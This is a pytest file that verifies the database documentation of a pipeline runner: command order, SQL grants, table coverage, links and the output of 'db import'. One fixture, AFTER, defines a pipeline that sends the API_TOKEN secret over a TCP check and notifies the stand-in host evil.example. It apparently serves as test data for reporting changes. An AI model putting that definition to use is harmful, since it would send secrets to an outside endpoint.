"""docs/database.md: its commands work in their order, its grants are enough, and its example is what import says."""

from __future__ import annotations

import re
import shlex
from typing import TYPE_CHECKING, Final

import pytest

from runner.store.tables import OWN
from tests.pages import ROOT, page
from tests.roles import user_of

if TYPE_CHECKING:
    from collections.abc import Callable
    from pathlib import Path

    from tests.conftest import Ended
    from tests.databases import Store

    Cli = Callable[..., Ended]

PAGE: Final = page("docs/database.md")
READING, RECORDING = (block.text for block in PAGE.blocks_of("sql"))
BEFORE: Final = """\
version: "1.0"
timeout: 10s
secrets: []
nodes:
  - id: probe
    type: context
    config: {checks: [{type: http, name: home, url: "https://shop.example/"}, {type: tcp, name: db, host: db, port: 1}]}
"""
AFTER: Final = """\
version: "1.0"
timeout: 60s
secrets: [API_TOKEN]
nodes:
  - id: probe
    type: context
    config: {checks: [{type: tcp, name: db, host: db, port: 1, send: "{{ secrets.API_TOKEN }}"}]}
  - {id: tell, type: notify, always: true, config: {driver: generic, endpoint: "https://evil.example/"}}
"""


@pytest.fixture
def postgres(lasting_postgres: Store) -> Store:
    """A PostgreSQL with the runner's own tables."""
    return lasting_postgres.clear()


def test_its_commands_work_one_after_the_other(cli: Cli, empty: Store, tmp_path: Path) -> None:
    (tmp_path / "definitions").mkdir()
    (tmp_path / "definitions/shop.yaml").write_text(BEFORE)
    env = {"PIPELINE_DATABASE_URL": empty.text, "ONCALL_WEBHOOK": "https://hooks.slack.example/T0/B0/abcdef"}
    commands = [shlex.split(command) for command in PAGE.commands]
    assert {words[0] for words in commands} == {"pipeline-runner"}
    ended = [(words[1:], cli(*words[1:], env=env)) for words in commands]
    assert [(words, one.err) for words, one in ended if one.code != 0] == []


def test_the_example_is_what_import_says(cli: Cli, postgres: Store, tmp_path: Path) -> None:
    (shown,) = (block.text for block in PAGE.blocks_of("text"))
    env = {"PIPELINE_DATABASE_URL": postgres.text}
    (tmp_path / "shop.yaml").write_text(BEFORE)
    cli("db", "import", "shop.yaml", env=env)
    (tmp_path / "shop.yaml").write_text(AFTER)
    said = cli("db", "import", "shop.yaml", env=env).out
    lines = [line for line in said.splitlines() if "send" not in line]
    assert lines[:-1] == shown.splitlines()[:-1]
    assert lines[-1].replace(str(postgres.database), "postgresql at db.example:5432/health") == shown.splitlines()[-1]


def grants(*statements: str) -> list[str]:
    """The rights that statements give to a user `runner`."""
    found = [re.fullmatch(r"GRANT (?P<right>.+) TO runner;\n", statement) for statement in statements]
    return [one["right"] for one in found if one is not None]


def test_who_may_read_runs_definitions_and_who_may_record_has_a_history(
    cli: Cli, postgres: Store, tmp_path: Path
) -> None:
    postgres.define("shop", 'version: "1.0"\nnodes: [{id: a, type: transform}]\n')
    assert len(grants(READING, RECORDING)) == 2
    run = ("--definition", "db:shop", "--payload", "{}")
    with user_of(postgres, *grants(READING)) as url:
        ended = cli(*run, env={"PIPELINE_DATABASE_URL": url})
        assert (ended.code, "warning" in ended.err) == (0, False), ended.err
        assert cli("db", "check", env={"PIPELINE_DATABASE_URL": url}).code == 0
    assert postgres.rows("select count(*) from pipeline_run") == [(0,)]
    assert (tmp_path / ".pipeline/state.sqlite3").is_file()
    with user_of(postgres, *grants(READING, RECORDING)) as url:
        assert cli(*run, env={"PIPELINE_DATABASE_URL": url}).code == 0
        assert cli("db", "check", "--state", env={"PIPELINE_STATE_URL": url}).code == 0
    assert postgres.rows("select count(*) from pipeline_run") == [(1,)]


def test_its_grants_name_every_table_once() -> None:
    named = [name for text in (READING, RECORDING) for name in re.findall(r"pipeline_\w+", text)]
    assert sorted(named) == sorted([*OWN, "pipeline_schema"])


def test_every_link_leads_to_a_file() -> None:
    assert [link for link in PAGE.links if not (ROOT / "docs" / link).is_file()] == []
